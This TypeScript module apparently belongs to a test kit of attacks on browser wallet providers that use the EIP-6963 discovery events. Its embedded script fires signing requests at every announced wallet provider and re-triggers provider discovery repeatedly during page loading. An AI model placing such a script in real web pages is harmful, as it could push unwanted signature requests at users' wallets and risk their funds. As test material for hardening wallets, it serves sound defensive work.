import type { Attack } from './kit/attack.ts'

export default {
  family: 'announced',
  how: 'Asks for providers inside an announcement, inside a microtask, while the document is being parsed and after it is loaded.',
  script: `
    let asked = 0
    addEventListener('eip6963:announceProvider', (event) => {
      event.detail.provider.request(attack.sign)
      if (asked++ < 20) dispatchEvent(new CustomEvent('eip6963:requestProvider', { bubbles: true, detail: event.detail }))
    })
    const ask = () => dispatchEvent(new Event('eip6963:requestProvider'))
    addEventListener('eip6963:requestProvider', () => asked++ < 20 && queueMicrotask(ask), true)
    for (const name of ['DOMContentLoaded', 'load', 'pageshow', 'readystatechange']) {
      addEventListener(name, ask, true)
      document.addEventListener(name, ask, true)
    }
    ask()
    await attack.sleep(400)
  `,
} satisfies Attack
